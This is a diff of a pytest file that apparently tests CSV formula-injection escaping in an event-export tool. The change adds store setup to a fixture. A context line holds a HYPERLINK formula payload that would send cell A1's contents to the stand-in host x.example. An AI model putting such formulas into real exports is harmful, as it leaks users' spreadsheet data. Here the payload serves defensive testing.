@@ -26,7 +26,7 @@ import pytest
 from integrator.csv_cells import FORMULA_START, csv_cell, csv_text
 from integrator.exports import EVENT_CSV_COLUMNS
 from integrator.store import Store
-from tests.cli_in_process import run_cli
+from tests.cli_in_process import make_store, run_cli
 from tests.store.factories import make_event, make_message
 
 SEARCH_KEY = "csv-formula-tests-search-key"
@@ -47,6 +47,7 @@ INSIDE = 'noord\r=HYPERLINK("http://x.example/?"&A1,"klik")'
 @pytest.fixture
 def env(tmp_path: Path) -> dict[str, str]:
     (tmp_path / "destinations").mkdir()  # no destination: every event is unrouted
+    make_store(f"sqlite:///{tmp_path / 'store.db'}")
     return {
         "INTEGRATOR_DATABASE_URL": f"sqlite:///{tmp_path / 'store.db'}",
         "INTEGRATOR_SEARCH_KEY": SEARCH_KEY,
